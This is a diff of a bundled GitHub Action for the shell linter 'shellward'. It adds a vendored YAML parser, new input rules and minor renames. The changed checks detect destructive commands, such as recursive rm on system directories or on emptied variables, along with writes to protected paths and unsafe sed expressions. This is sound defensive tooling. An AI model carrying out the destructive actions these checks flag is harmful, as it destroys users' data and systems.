+        if (doc.value)
+          return yield* this.lineEnd(doc);
+        switch (this.type) {
+          case "doc-start": {
+            if (findNonEmptyIndex(doc.start) !== -1) {
+              yield* this.pop();
+              yield* this.step();
+            } else
+              doc.start.push(this.sourceToken);
+            return;
+          }
+          case "anchor":
+          case "tag":
+          case "space":
+          case "comment":
+          case "newline":
+            doc.start.push(this.sourceToken);
+            return;
+        }
+        const bv = this.startBlockValue(doc);
+        if (bv)
+          this.stack.push(bv);
+        else {
+          yield {
+            type: "error",
+            offset: this.offset,
+            message: `Unexpected ${this.type} token in YAML document`,
+            source: this.source
+          };
+        }
+      }
+      *scalar(scalar) {
+        if (this.type === "map-value-ind") {
+          const prev = getPrevProps(this.peek(2));
+          const start2 = getFirstKeyStartProps(prev);
+          let sep5;
+          if (scalar.end) {
+            sep5 = scalar.end;
+            sep5.push(this.sourceToken);
+            delete scalar.end;
+          } else
+            sep5 = [this.sourceToken];
+          const map = {
+            type: "block-map",
+            offset: scalar.offset,
+            indent: scalar.indent,
+            items: [{ start: start2, key: scalar, sep: sep5 }]
+          };
+          this.onKeyLine = true;
+          this.stack[this.stack.length - 1] = map;
+        } else
+          yield* this.lineEnd(scalar);
+      }
+      *blockScalar(scalar) {
+        switch (this.type) {
+          case "space":
+          case "comment":
+          case "newline":
+            scalar.props.push(this.sourceToken);
+            return;
+          case "scalar":
+            scalar.source = this.source;
+            this.atNewLine = true;
+            this.indent = 0;
+            if (this.onNewLine) {
+              let nl = this.source.indexOf("\n") + 1;
+              while (nl !== 0) {
+                this.onNewLine(this.offset + nl);
+                nl = this.source.indexOf("\n", nl) + 1;
+              }
+            }
+            yield* this.pop();
+            break;
+          /* istanbul ignore next should not happen */
+          default:
+            yield* this.pop();
+            yield* this.step();
+        }
+      }
+      *blockMap(map) {
+        const it = map.items[map.items.length - 1];
+        switch (this.type) {
+          case "newline":
+            this.onKeyLine = false;
+            if (it.value) {
+              const end = "end" in it.value ? it.value.end : void 0;
+              const last = Array.isArray(end) ? end[end.length - 1] : void 0;
+              if (last?.type === "comment")
+                end?.push(this.sourceToken);
+              else
+                map.items.push({ start: [this.sourceToken] });
+            } else if (it.sep) {
+              it.sep.push(this.sourceToken);
+            } else {
+              it.start.push(this.sourceToken);
+            }
+            return;
+          case "space":
+          case "comment":
+            if (it.value) {
+              map.items.push({ start: [this.sourceToken] });
+            } else if (it.sep) {
+              it.sep.push(this.sourceToken);
+            } else {
+              if (this.atIndentedComment(it.start, map.indent)) {
+                const prev = map.items[map.items.length - 2];
+                const end = prev?.value?.end;
+                if (Array.isArray(end)) {
+                  arrayPushArray(end, it.start);
+                  end.push(this.sourceToken);
+                  map.items.pop();
+                  return;
+                }
+              }
+              it.start.push(this.sourceToken);
+            }
+            return;
+        }
+        if (this.indent >= map.indent) {
+          const atMapIndent = !this.onKeyLine && this.indent === map.indent;
+          const atNextItem = atMapIndent && (it.sep || it.explicitKey) && this.type !== "seq-item-ind";
+          let start2 = [];
+          if (atNextItem && it.sep && !it.value) {
+            const nl = [];
+            for (let i3 = 0; i3 < it.sep.length; ++i3) {
+              const st = it.sep[i3];
+              switch (st.type) {
+                case "newline":
+                  nl.push(i3);
+                  break;
+                case "space":
+                  break;
+                case "comment":
+                  if (st.indent > map.indent)
+                    nl.length = 0;
+                  break;
+                default:
+                  nl.length = 0;
+              }
+            }
+            if (nl.length >= 2)
+              start2 = it.sep.splice(nl[1]);
+          }
+          switch (this.type) {
+            case "anchor":
+            case "tag":
+              if (atNextItem || it.value) {
+                start2.push(this.sourceToken);
+                map.items.push({ start: start2 });
+                this.onKeyLine = true;
+              } else if (it.sep) {
+                it.sep.push(this.sourceToken);
+              } else {
+                it.start.push(this.sourceToken);
+              }
+              return;
+            case "explicit-key-ind":
+              if (!it.sep && !it.explicitKey) {
+                it.start.push(this.sourceToken);
+                it.explicitKey = true;
+              } else if (atNextItem || it.value) {
+                start2.push(this.sourceToken);
+                map.items.push({ start: start2, explicitKey: true });
+              } else {
+                this.stack.push({
+                  type: "block-map",
+                  offset: this.offset,
+                  indent: this.indent,
+                  items: [{ start: [this.sourceToken], explicitKey: true }]
+                });
+              }
+              this.onKeyLine = true;
+              return;
+            case "map-value-ind":
+              if (it.explicitKey) {
+                if (!it.sep) {
+                  if (includesToken(it.start, "newline")) {
+                    Object.assign(it, { key: null, sep: [this.sourceToken] });
+                  } else {
+                    const start3 = getFirstKeyStartProps(it.start);
+                    this.stack.push({
+                      type: "block-map",
+                      offset: this.offset,
+                      indent: this.indent,
+                      items: [{ start: start3, key: null, sep: [this.sourceToken] }]
+                    });
+                  }
+                } else if (it.value) {
+                  map.items.push({ start: [], key: null, sep: [this.sourceToken] });
+                } else if (includesToken(it.sep, "map-value-ind")) {
+                  this.stack.push({
+                    type: "block-map",
+                    offset: this.offset,
+                    indent: this.indent,
+                    items: [{ start: start2, key: null, sep: [this.sourceToken] }]
+                  });
+                } else if (isFlowToken(it.key) && !includesToken(it.sep, "newline")) {
+                  const start3 = getFirstKeyStartProps(it.start);
+                  const key = it.key;
+                  const sep5 = it.sep;
+                  sep5.push(this.sourceToken);
+                  delete it.key;
+                  delete it.sep;
+                  this.stack.push({
+                    type: "block-map",
+                    offset: this.offset,
+                    indent: this.indent,
+                    items: [{ start: start3, key, sep: sep5 }]
+                  });
+                } else if (start2.length > 0) {
+                  it.sep = it.sep.concat(start2, this.sourceToken);
+                } else {
+                  it.sep.push(this.sourceToken);
+                }
+              } else {
+                if (!it.sep) {
+                  Object.assign(it, { key: null, sep: [this.sourceToken] });
+                } else if (it.value || atNextItem) {
+                  map.items.push({ start: start2, key: null, sep: [this.sourceToken] });
+                } else if (includesToken(it.sep, "map-value-ind")) {
+                  this.stack.push({
+                    type: "block-map",
+                    offset: this.offset,
+                    indent: this.indent,
+                    items: [{ start: [], key: null, sep: [this.sourceToken] }]
+                  });
+                } else {
+                  it.sep.push(this.sourceToken);
+                }
+              }
+              this.onKeyLine = true;
+              return;
+            case "alias":
+            case "scalar":
+            case "single-quoted-scalar":
+            case "double-quoted-scalar": {
+              const fs2 = this.flowScalar(this.type);
+              if (atNextItem || it.value) {
+                map.items.push({ start: start2, key: fs2, sep: [] });
+                this.onKeyLine = true;
+              } else if (it.sep) {
+                this.stack.push(fs2);
+              } else {
+                Object.assign(it, { key: fs2, sep: [] });
+                this.onKeyLine = true;
+              }
+              return;
+            }
+            default: {
+              const bv = this.startBlockValue(map);
+              if (bv) {
+                if (bv.type === "block-seq") {
+                  if (!it.explicitKey && it.sep && !includesToken(it.sep, "newline")) {
+                    yield* this.pop({
+                      type: "error",
+                      offset: this.offset,
+                      message: "Unexpected block-seq-ind on same line with key",
+                      source: this.source
+                    });
+                    return;
+                  }
+                } else if (atMapIndent) {
+                  map.items.push({ start: start2 });
+                }
+                this.stack.push(bv);
+                return;
+              }
+            }
+          }
+        }
+        yield* this.pop();
+        yield* this.step();
+      }
+      *blockSequence(seq) {
+        const it = seq.items[seq.items.length - 1];
+        switch (this.type) {
+          case "newline":
+            if (it.value) {
+              const end = "end" in it.value ? it.value.end : void 0;
+              const last = Array.isArray(end) ? end[end.length - 1] : void 0;
+              if (last?.type === "comment")
+                end?.push(this.sourceToken);
+              else
+                seq.items.push({ start: [this.sourceToken] });
+            } else
+              it.start.push(this.sourceToken);
+            return;
+          case "space":
+          case "comment":
+            if (it.value)
+              seq.items.push({ start: [this.sourceToken] });
+            else {
+              if (this.atIndentedComment(it.start, seq.indent)) {
+                const prev = seq.items[seq.items.length - 2];
+                const end = prev?.value?.end;
+                if (Array.isArray(end)) {
+                  arrayPushArray(end, it.start);
+                  end.push(this.sourceToken);
+                  seq.items.pop();
+                  return;
+                }
+              }
+              it.start.push(this.sourceToken);
+            }
+            return;
+          case "anchor":
+          case "tag":
+            if (it.value || this.indent <= seq.indent)
+              break;
+            it.start.push(this.sourceToken);
+            return;
+          case "seq-item-ind":
+            if (this.indent !== seq.indent)
+              break;
+            if (it.value || includesToken(it.start, "seq-item-ind"))
+              seq.items.push({ start: [this.sourceToken] });
+            else
+              it.start.push(this.sourceToken);
+            return;
+        }
+        if (this.indent > seq.indent) {
+          const bv = this.startBlockValue(seq);
+          if (bv) {
+            this.stack.push(bv);
+            return;
+          }
+        }
+        yield* this.pop();
+        yield* this.step();
+      }
+      *flowCollection(fc) {
+        const it = fc.items[fc.items.length - 1];
+        if (this.type === "flow-error-end") {
+          let top;
+          do {
+            yield* this.pop();
+            top = this.peek(1);
+          } while (top?.type === "flow-collection");
+        } else if (fc.end.length === 0) {
+          switch (this.type) {
+            case "comma":
+            case "explicit-key-ind":
+              if (!it || it.sep)
+                fc.items.push({ start: [this.sourceToken] });
+              else
+                it.start.push(this.sourceToken);
+              return;
+            case "map-value-ind":
+              if (!it || it.value)
+                fc.items.push({ start: [], key: null, sep: [this.sourceToken] });
+              else if (it.sep)
+                it.sep.push(this.sourceToken);
+              else
+                Object.assign(it, { key: null, sep: [this.sourceToken] });
+              return;
+            case "space":
+            case "comment":
+            case "newline":
+            case "anchor":
+            case "tag":
+              if (!it || it.value)
+                fc.items.push({ start: [this.sourceToken] });
+              else if (it.sep)
+                it.sep.push(this.sourceToken);
+              else
+                it.start.push(this.sourceToken);
+              return;
+            case "alias":
+            case "scalar":
+            case "single-quoted-scalar":
+            case "double-quoted-scalar": {
+              const fs2 = this.flowScalar(this.type);
+              if (!it || it.value)
+                fc.items.push({ start: [], key: fs2, sep: [] });
+              else if (it.sep)
+                this.stack.push(fs2);
+              else
+                Object.assign(it, { key: fs2, sep: [] });
+              return;
+            }
+            case "flow-map-end":
+            case "flow-seq-end":
+              fc.end.push(this.sourceToken);
+              return;
+          }
+          const bv = this.startBlockValue(fc);
+          if (bv)
+            this.stack.push(bv);
+          else {
+            yield* this.pop();
+            yield* this.step();
+          }
+        } else {
+          const parent = this.peek(2);
+          if (parent.type === "block-map" && (this.type === "map-value-ind" && parent.indent === fc.indent || this.type === "newline" && !parent.items[parent.items.length - 1].sep)) {
+            yield* this.pop();
+            yield* this.step();
+          } else if (this.type === "map-value-ind" && parent.type !== "flow-collection") {
+            const prev = getPrevProps(parent);
+            const start2 = getFirstKeyStartProps(prev);
+            fixFlowSeqItems(fc);
+            const sep5 = fc.end.splice(1, fc.end.length);
+            sep5.push(this.sourceToken);
+            const map = {
+              type: "block-map",
+              offset: fc.offset,
+              indent: fc.indent,
+              items: [{ start: start2, key: fc, sep: sep5 }]
+            };
+            this.onKeyLine = true;
+            this.stack[this.stack.length - 1] = map;
+          } else {
+            yield* this.lineEnd(fc);
+          }
+        }
+      }
+      flowScalar(type) {
+        if (this.onNewLine) {
+          let nl = this.source.indexOf("\n") + 1;
+          while (nl !== 0) {
+            this.onNewLine(this.offset + nl);
+            nl = this.source.indexOf("\n", nl) + 1;
+          }
+        }
+        return {
+          type,
+          offset: this.offset,
+          indent: this.indent,
+          source: this.source
+        };
+      }
+      startBlockValue(parent) {
+        switch (this.type) {
+          case "alias":
+          case "scalar":
+          case "single-quoted-scalar":
+          case "double-quoted-scalar":
+            return this.flowScalar(this.type);
+          case "block-scalar-header":
+            return {
+              type: "block-scalar",
+              offset: this.offset,
+              indent: this.indent,
+              props: [this.sourceToken],
+              source: ""
+            };
+          case "flow-map-start":
+          case "flow-seq-start":
+            return {
+              type: "flow-collection",
+              offset: this.offset,
+              indent: this.indent,
+              start: this.sourceToken,
+              items: [],
+              end: []
+            };
+          case "seq-item-ind":
+            return {
+              type: "block-seq",
+              offset: this.offset,
+              indent: this.indent,
+              items: [{ start: [this.sourceToken] }]
+            };
+          case "explicit-key-ind": {
+            this.onKeyLine = true;
+            const prev = getPrevProps(parent);
+            const start2 = getFirstKeyStartProps(prev);
+            start2.push(this.sourceToken);
+            return {
+              type: "block-map",
+              offset: this.offset,
+              indent: this.indent,
+              items: [{ start: start2, explicitKey: true }]
+            };
+          }
+          case "map-value-ind": {
+            this.onKeyLine = true;
+            const prev = getPrevProps(parent);
+            const start2 = getFirstKeyStartProps(prev);
+            return {
+              type: "block-map",
+              offset: this.offset,
+              indent: this.indent,
+              items: [{ start: start2, key: null, sep: [this.sourceToken] }]
+            };
+          }
+        }
+        return null;
+      }
+      atIndentedComment(start2, indent) {
+        if (this.type !== "comment")
+          return false;
+        if (this.indent <= indent)
+          return false;
+        return start2.every((st) => st.type === "newline" || st.type === "space");
+      }
+      *documentEnd(docEnd) {
+        if (this.type !== "doc-mode") {
+          if (docEnd.end)
+            docEnd.end.push(this.sourceToken);
+          else
+            docEnd.end = [this.sourceToken];
+          if (this.type === "newline")
+            yield* this.pop();
+        }
+      }
+      *lineEnd(token) {
+        switch (this.type) {
+          case "comma":
+          case "doc-start":
+          case "doc-end":
+          case "flow-seq-end":
+          case "flow-map-end":
+          case "map-value-ind":
+            yield* this.pop();
+            yield* this.step();
+            break;
+          case "newline":
+            this.onKeyLine = false;
+          // fallthrough
+          case "space":
+          case "comment":
+          default:
+            if (token.end)
+              token.end.push(this.sourceToken);
+            else
+              token.end = [this.sourceToken];
+            if (this.type === "newline")
+              yield* this.pop();
+        }
+      }
+    };
+    exports.Parser = Parser2;
+  }
+});
+
+// node_modules/yaml/dist/public-api.js
+var require_public_api = __commonJS({
+  "node_modules/yaml/dist/public-api.js"(exports) {
+    "use strict";
+    var composer = require_composer();
+    var Document = require_Document();
+    var errors = require_errors3();
+    var log2 = require_log();
+    var identity3 = require_identity();
+    var lineCounter = require_line_counter();
+    var parser = require_parser();
+    function parseOptions(options) {
+      const prettyErrors = options.prettyErrors !== false;
+      const lineCounter$1 = options.lineCounter || prettyErrors && new lineCounter.LineCounter() || null;
+      return { lineCounter: lineCounter$1, prettyErrors };
+    }
+    function parseAllDocuments(source, options = {}) {
+      const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
+      const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
+      const composer$1 = new composer.Composer(options);
+      const docs = Array.from(composer$1.compose(parser$1.parse(source)));
+      if (prettyErrors && lineCounter2)
+        for (const doc of docs) {
+          doc.errors.forEach(errors.prettifyError(source, lineCounter2));
+          doc.warnings.forEach(errors.prettifyError(source, lineCounter2));
+        }
+      if (docs.length > 0)
+        return docs;
+      return Object.assign([], { empty: true }, composer$1.streamInfo());
+    }
+    function parseDocument2(source, options = {}) {
+      const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
+      const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
+      const composer$1 = new composer.Composer(options);
+      let doc = null;
+      for (const _doc of composer$1.compose(parser$1.parse(source), true, source.length)) {
+        if (!doc)
+          doc = _doc;
+        else if (doc.options.logLevel !== "silent") {
+          doc.errors.push(new errors.YAMLParseError(_doc.range.slice(0, 2), "MULTIPLE_DOCS", "Source contains multiple documents; please use YAML.parseAllDocuments()"));
+          break;
+        }
+      }
+      if (prettyErrors && lineCounter2) {
+        doc.errors.forEach(errors.prettifyError(source, lineCounter2));
+        doc.warnings.forEach(errors.prettifyError(source, lineCounter2));
+      }
+      return doc;
+    }
+    function parse(src, reviver, options) {
+      let _reviver = void 0;
+      if (typeof reviver === "function") {
+        _reviver = reviver;
+      } else if (options === void 0 && reviver && typeof reviver === "object") {
+        options = reviver;
+      }
+      const doc = parseDocument2(src, options);
+      if (!doc)
+        return null;
+      doc.warnings.forEach((warning2) => log2.warn(doc.options.logLevel, warning2));
+      if (doc.errors.length > 0) {
+        if (doc.options.logLevel !== "silent")
+          throw doc.errors[0];
+        else
+          doc.errors = [];
+      }
+      return doc.toJS(Object.assign({ reviver: _reviver }, options));
+    }
+    function stringify(value, replacer, options) {
+      let _replacer = null;
+      if (typeof replacer === "function" || Array.isArray(replacer)) {
+        _replacer = replacer;
+      } else if (options === void 0 && replacer) {
+        options = replacer;
+      }
+      if (typeof options === "string")
+        options = options.length;
+      if (typeof options === "number") {
+        const indent = Math.round(options);
+        options = indent < 1 ? void 0 : indent > 8 ? { indent: 8 } : { indent };
+      }
+      if (value === void 0) {
+        const { keepUndefined } = options ?? replacer ?? {};
+        if (!keepUndefined)
+          return void 0;
+      }
+      if (identity3.isDocument(value) && !_replacer)
+        return value.toString(options);
+      return new Document.Document(value, _replacer, options).toString(options);
+    }
+    exports.parse = parse;
+    exports.parseAllDocuments = parseAllDocuments;
+    exports.parseDocument = parseDocument2;
+    exports.stringify = stringify;
+  }
+});
+
+// node_modules/yaml/dist/index.js
+var require_dist2 = __commonJS({
+  "node_modules/yaml/dist/index.js"(exports) {
+    "use strict";
+    var composer = require_composer();
+    var Document = require_Document();
+    var Schema = require_Schema();
+    var errors = require_errors3();
+    var Alias = require_Alias();
+    var identity3 = require_identity();
+    var Pair = require_Pair();
+    var Scalar = require_Scalar();
+    var YAMLMap = require_YAMLMap();
+    var YAMLSeq = require_YAMLSeq();
+    var cst = require_cst();
+    var lexer = require_lexer();
+    var lineCounter = require_line_counter();
+    var parser = require_parser();
+    var publicApi = require_public_api();
+    var visit = require_visit();
+    exports.Composer = composer.Composer;
+    exports.Document = Document.Document;
+    exports.Schema = Schema.Schema;
+    exports.YAMLError = errors.YAMLError;
+    exports.YAMLParseError = errors.YAMLParseError;
+    exports.YAMLWarning = errors.YAMLWarning;
+    exports.Alias = Alias.Alias;
+    exports.isAlias = identity3.isAlias;
+    exports.isCollection = identity3.isCollection;
+    exports.isDocument = identity3.isDocument;
+    exports.isMap = identity3.isMap;
+    exports.isNode = identity3.isNode;
+    exports.isPair = identity3.isPair;
+    exports.isScalar = identity3.isScalar;
+    exports.isSeq = identity3.isSeq;
+    exports.Pair = Pair.Pair;
+    exports.Scalar = Scalar.Scalar;
+    exports.YAMLMap = YAMLMap.YAMLMap;
+    exports.YAMLSeq = YAMLSeq.YAMLSeq;
+    exports.CST = cst;
+    exports.Lexer = lexer.Lexer;
+    exports.LineCounter = lineCounter.LineCounter;
+    exports.Parser = parser.Parser;
+    exports.parse = publicApi.parse;
+    exports.parseAllDocuments = publicApi.parseAllDocuments;
+    exports.parseDocument = publicApi.parseDocument;
+    exports.stringify = publicApi.stringify;
+    exports.visit = visit.visit;
+    exports.visitAsync = visit.visitAsync;
+  }
+});
+
 // action/main.ts
 var core2 = __toESM(require_core(), 1);
 
@@ -36360,7 +43690,7 @@ var core = __toESM(require_core(), 1);
 import { randomUUID } from "node:crypto";
 import { existsSync } from "node:fs";
 import { mkdir, readFile as readFile4, writeFile } from "node:fs/promises";
-import { dirname as dirname5, relative as relative4, resolve as resolve7, sep as sep3 } from "node:path";
+import { dirname as dirname5, join as join4, resolve as resolve7 } from "node:path";
 import { fileURLToPath as fileURLToPath4 } from "node:url";
 
 // node_modules/is-plain-obj/index.js
@@ -37092,7 +44422,7 @@ var defaultVerboseFunction = ({
   return `${gray(`[${timestampString}]`)} ${gray(`[${commandId}]`)} ${color(icon)} ${color(message4)}`;
 };
 var serializeTimestamp = (timestamp) => `${padField(timestamp.getHours(), 2)}:${padField(timestamp.getMinutes(), 2)}:${padField(timestamp.getSeconds(), 2)}.${padField(timestamp.getMilliseconds(), 3)}`;
-var padField = (field2, padding) => String(field2).padStart(padding, "0");
+var padField = (field3, padding) => String(field3).padStart(padding, "0");
 var getFinalIcon = ({ failed, reject }) => {
   if (!failed) {
     return figures_default.tick;
@@ -39490,8 +46820,8 @@ function prettyMilliseconds(milliseconds, options) {
     const flooredValue = Math.round(flooredInterimValue) / 10 ** decimalDigits;
     return flooredValue.toFixed(decimalDigits);
   };
-  const add = (value, long, short, valueString) => {
-    if ((result.length === 0 || !options.colonNotation) && isZero(value) && !(options.colonNotation && short === "m")) {
+  const add = (value, long, short2, valueString) => {
+    if ((result.length === 0 || !options.colonNotation) && isZero(value) && !(options.colonNotation && short2 === "m")) {
       return;
     }
     valueString ??= String(value);
@@ -39500,7 +46830,7 @@ function prettyMilliseconds(milliseconds, options) {
       const minLength = result.length > 0 ? 2 : 1;
       valueString = "0".repeat(Math.max(0, minLength - wholeDigits)) + valueString;
     } else {
-      valueString += options.verbose ? " " + pluralize(long, value) : short;
+      valueString += options.verbose ? " " + pluralize(long, value) : short2;
     }
     result.push(valueString);
   };
@@ -40374,8 +47704,8 @@ var linesFinal = function* ({ previousChunks }) {
 };
 var getAppendNewlineGenerator = ({ binary: binary2, preserveNewlines, readableObjectMode, state }) => binary2 || preserveNewlines || readableObjectMode ? void 0 : { transform: appendNewlineGenerator.bind(void 0, state) };
 var appendNewlineGenerator = function* ({ isWindowsNewline = false }, chunk) {
-  const { unixNewline, windowsNewline, LF: LF2, concatBytes } = typeof chunk === "string" ? linesStringInfo : linesUint8ArrayInfo;
-  if (chunk.at(-1) === LF2) {
+  const { unixNewline, windowsNewline, LF: LF3, concatBytes } = typeof chunk === "string" ? linesStringInfo : linesUint8ArrayInfo;
+  if (chunk.at(-1) === LF3) {
     yield chunk;
     return;
   }
@@ -43613,12 +50943,12 @@ function sqlTexts(name2, fam, scanned, cmd) {
   return out2;
 }
 function matchDestructive(cmd) {
-  const resolved = resolveCommand(cmd);
-  if (!resolved) return void 0;
-  const familyKey = familyByName.get(resolved.name);
+  const resolved2 = resolveCommand(cmd);
+  if (!resolved2) return void 0;
+  const familyKey = familyByName.get(resolved2.name);
   if (!familyKey) return void 0;
   const fam = FAMILIES[familyKey];
-  const args2 = resolved.args;
+  const args2 = resolved2.args;
   let subcommand;
   let rest = args2;
   if (fam.subcommands || fam.globalValueOptions) {
@@ -43644,7 +50974,7 @@ function matchDestructive(cmd) {
       const inner = words[0] ? resolveCommand({ ...cmd, name: words[0], args: words.slice(1), assignments: [] }) : void 0;
       return inner ? [inner.name] : [];
     }),
-    sql: fam.sql ? sqlTexts(resolved.name, fam, scanArgs(args2, syntax), cmd) : []
+    sql: fam.sql ? sqlTexts(resolved2.name, fam, scanArgs(args2, syntax), cmd) : []
   };
   for (const rule of DESTRUCTIVE_RULES) {
     if (rule.family !== familyKey) continue;
@@ -43727,7 +51057,7 @@ var FILE_SKIPPED = {
   category: "input",
   severity: { agent: "note", script: "note" },
   docs: {
-    rationale: "shellward reads shell scripts as UTF-8 text. A file that contains NUL bytes (binary), that cannot be read, or that is over 16 MiB is skipped and reported, so nothing is silently left out (text that is not valid UTF-8 is checked anyway: `invalid-utf8`).",
+    rationale: "shellward reads shell scripts as UTF-8 text. A file that contains NUL bytes (binary), that cannot be read, or that is over 16 MiB is skipped and reported, so nothing is silently left out (text that is not valid UTF-8 is checked anyway: `invalid-utf8`). A file named on the command line that is of no kind shellward reads (say `x.py`: not a shell script, Makefile, workflow, Dockerfile …) is skipped with this note too, rather than read as shell.",
     fix: "Convert the file to UTF-8, or exclude it from the paths you lint."
   },
   sources: [],
@@ -43801,7 +51131,33 @@ var INVALID_UTF8 = {
   sources: [],
   examples: { valid: [], invalid: [] }
 };
-var INPUT_RULES = [FILE_SKIPPED, INTERNAL_ERROR, TRANSCRIPT_PARSE_ERROR, SUPPRESSION_INVALID, SUPPRESSION_UNUSED, INVALID_UTF8];
+var SHELL_NOT_ANALYSED = {
+  id: "shell-not-analysed",
+  code: "I907",
+  title: "Code in a shell shellward does not analyse",
+  category: "input",
+  severity: { agent: "note", script: "note" },
+  docs: {
+    rationale: 'shellward analyses POSIX shells (sh, bash, dash, ksh, zsh). A GitHub Actions step whose `shell:` is `pwsh`, `powershell`, `cmd` or `python` (or that runs on a Windows runner, where the default is `pwsh`), a Dockerfile `RUN` after a `SHELL ["powershell", …]`, or a command whose program is PowerShell or cmd.exe is left out of the analysis, and this note says so, so nothing is silently reported as clean.',
+    fix: "Nothing to fix; review such code by other means."
+  },
+  sources: [],
+  examples: { valid: [], invalid: [] }
+};
+var SOURCE_PARSE_ERROR = {
+  id: "source-parse-error",
+  code: "I908",
+  title: "File could not be parsed as its kind",
+  category: "input",
+  severity: { agent: "warning", script: "warning" },
+  docs: {
+    rationale: "A GitHub Actions workflow, GitLab CI file, pre-commit configuration, package.json, dev container or Claude Code settings file that is not valid YAML or JSON cannot be read for the shell code it holds. The error is reported at its place and the file's shell code is not checked; the rest of the run goes on.",
+    fix: "Fix the syntax error (the tool that runs the file would reject it too)."
+  },
+  sources: [],
+  examples: { valid: [], invalid: [] }
+};
+var INPUT_RULES = [FILE_SKIPPED, INTERNAL_ERROR, TRANSCRIPT_PARSE_ERROR, SUPPRESSION_INVALID, SUPPRESSION_UNUSED, INVALID_UTF8, SHELL_NOT_ANALYSED, SOURCE_PARSE_ERROR];
 
 // src/checks/parse/parse-error.ts
 var MAX_PER_UNIT = 100;
@@ -44098,13 +51454,13 @@ function render(parts2, emptyVars) {
 }
 var RECURSIVE = /* @__PURE__ */ new Set(["-r", "-R", "--recursive"]);
 function dangerousRemovals(cmd) {
-  const resolved = resolveCommand(cmd);
-  if (!resolved || resolved.name !== "rm" && resolved.name !== "rmdir") return [];
+  const resolved2 = resolveCommand(cmd);
+  if (!resolved2 || resolved2.name !== "rm" && resolved2.name !== "rmdir") return [];
   const operands = [];
   const options = [];
   let recursive = false;
   let endOfOptions = false;
-  for (const w of resolved.args) {
+  for (const w of resolved2.args) {
     const v = w.value;
     if (!endOfOptions && v !== void 0 && v.startsWith("-") && v.length > 1) {
       if (v === "--") {
@@ -44122,7 +51478,7 @@ function dangerousRemovals(cmd) {
     const literal2 = render(word.parts, false);
     if (literal2) {
       const kind2 = classifyPath(literal2.path);
-      if (kind2) out2.push({ command: resolved.name, options, word, kind: kind2, path: literal2.path, variables: [] });
+      if (kind2) out2.push({ command: resolved2.name, options, word, kind: kind2, path: literal2.path, variables: [] });
       continue;
     }
     if (!recursive) continue;
@@ -44132,7 +51488,7 @@ function dangerousRemovals(cmd) {
     const kind = path6 === "" ? void 0 : classifyPath(path6);
     if (!kind) continue;
     if (kind === "root-child" && !SYSTEM_DIRS.has(posix.normalize(path6).replace(/\/+$/, ""))) continue;
-    out2.push({ command: resolved.name, options, word, kind: "empty-variable", path: path6, variables: emptied.vars });
+    out2.push({ command: resolved2.name, options, word, kind: "empty-variable", path: path6, variables: emptied.vars });
   }
   return out2;
 }
@@ -44402,6 +51758,7 @@ function toTokens(args2) {
 }
 function dangerousFlagCombination(args2) {
   for (const w of args2) {
+    if (w.value !== void 0 && !w.value.startsWith("-")) continue;
     const raw = w.raw;
     for (let i3 = 0; i3 + 2 < raw.length; i3++) {
       if (raw[i3] !== "-") continue;
@@ -44939,12 +52296,12 @@ var sed_unsafe_expression_default = defineCheck(
   },
   (ctx) => {
     for (const cmd of ctx.parsed.commands) {
-      const resolved = resolveCommand(cmd);
-      if (!resolved || !SED_NAMES.has(resolved.name)) continue;
-      for (const h2 of sedHazards(resolved.args)) {
+      const resolved2 = resolveCommand(cmd);
+      if (!resolved2 || !SED_NAMES.has(resolved2.name)) continue;
+      for (const h2 of sedHazards(resolved2.args)) {
         ctx.report({
           ruleId: "sed-unsafe-expression",
-          message: message2(resolved.name, h2),
+          message: message2(resolved2.name, h2),
           span: h2.word.span,
           data: { kind: h2.kind, detail: h2.detail }
         });
@@ -45636,8 +52993,8 @@ function redirectAccess(r) {
 }
 var PROTECTED_DIRS = new Set(protected_paths_default.directories);
 var PROTECTED_FILES = new Set(protected_paths_default.files);
-function protectedPath(resolved) {
-  const segments = resolved.toLowerCase().split("/").filter((x) => x !== "");
+function protectedPath(resolved2) {
+  const segments = resolved2.toLowerCase().split("/").filter((x) => x !== "");
   if (segments.some((x) => PROTECTED_DIRS.has(x))) return true;
   const base = segments[segments.length - 1];
   return base !== void 0 && PROTECTED_FILES.has(base);
@@ -45647,10 +53004,10 @@ function append(out2, items) {
 }
 function extractPaths(cmd) {
   const out2 = [];
-  const resolved = resolveCommand(cmd);
-  const e = resolved ? EXTRACTORS.get(resolved.name) : void 0;
-  if (resolved && e) {
-    const { name: name2, args: args2, nameWord } = resolved;
+  const resolved2 = resolveCommand(cmd);
+  const e = resolved2 ? EXTRACTORS.get(resolved2.name) : void 0;
+  if (resolved2 && e) {
+    const { name: name2, args: args2, nameWord } = resolved2;
     const start2 = out2.length;
     switch (e.kind) {
       case "allArgs":
@@ -45731,7 +53088,7 @@ function stripQuotes(p) {
   return s;
 }
 function validatePath(a2, ctx) {
-  const result = (resolved, allowed, reason) => ({ ...a2, resolved, allowed, reason });
+  const result = (resolved2, allowed, reason) => ({ ...a2, resolved: resolved2, allowed, reason });
   if (a2.braceOverflow) return result(null, false, "brace");
   let p = a2.static ? a2.path : stripQuotes(a2.path);
   if (a2.source === "cd" && p === "-") return result(null, false, "unknown-cwd");
@@ -45945,8 +53302,8 @@ function sedInPlace(cmd) {
   return false;
 }
 var TEMP_DIRS = ["/tmp", "/var/tmp", "/private/tmp", "/dev/shm"];
-function inTemp(resolved) {
-  return resolved !== null && TEMP_DIRS.some((d) => resolved === d || resolved.startsWith(`${d}/`));
+function inTemp(resolved2) {
+  return resolved2 !== null && TEMP_DIRS.some((d) => resolved2 === d || resolved2.startsWith(`${d}/`));
 }
 function within(s, spans) {
   return spans.some((o2) => o2.start <= s.start && s.end <= o2.end);
@@ -46215,8 +53572,8 @@ function safeWrapperEnd(words, prefixOnly) {
       options++;
       continue;
     }
-    const short = v.slice(0, 2);
-    if (!v.startsWith("--") && v.length > 2 && (form.options?.includes(short) || form.fusedOptions?.includes(short))) {
+    const short2 = v.slice(0, 2);
+    if (!v.startsWith("--") && v.length > 2 && (form.options?.includes(short2) || form.fusedOptions?.includes(short2))) {
       if (!okValue(v.slice(2))) return void 0;
       i3++;
       options++;
@@ -46591,13 +53948,13 @@ function optionSetMatches(rule, cmd) {
   if (!words.slice(firstOption).every(isOption2)) return false;
   const head = words.slice(0, firstOption);
   if (head.length < 1 || head.length === 1 && firstOption === words.length) return false;
-  const resolved = resolveCommand(cmd);
-  if (!resolved || resolved.name !== head[0]) return false;
+  const resolved2 = resolveCommand(cmd);
